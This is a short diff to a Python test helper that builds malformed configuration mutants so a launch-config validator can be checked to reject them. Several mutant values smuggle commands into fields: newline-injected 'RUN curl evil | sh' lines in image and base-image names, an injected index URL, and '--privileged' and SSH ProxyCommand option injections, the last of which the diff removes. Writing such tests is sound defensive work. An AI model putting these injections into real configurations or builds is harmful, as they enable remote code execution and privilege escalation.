@@ -67,7 +67,7 @@ def _invalid_models(rng: random.Random) -> list[Mutant]:
     changes: dict[str, Callable[[dict[str, Any]], None]] = {
         "image-as-option": lambda d: entry(d)["launch"].update(image="--privileged"),
         "image-with-newline": lambda d: entry(d)["launch"].update(image="vllm-node\nRUN curl evil | sh"),
-        "node-as-ssh-option": lambda d: d["profiles"]["spark"].update(nodes=["-oProxyCommand=touch x", "spark-b"]),
+        "nodes-in-the-matrix": lambda d: d["profiles"]["spark"].update(nodes=["spark-a", "spark-b"]),  # cluster.yaml
         "base-image-line": lambda d: d["profiles"]["spark"].update(base_image="ubuntu\nRUN curl evil | sh"),
         "index-url-line": lambda d: d["profiles"]["spark"]["torch"].update(index_url="https://x/\nRUN evil"),
         "index-url-option": lambda d: d["profiles"]["spark"]["torch"].update(index_url="--trusted-host=evil"),
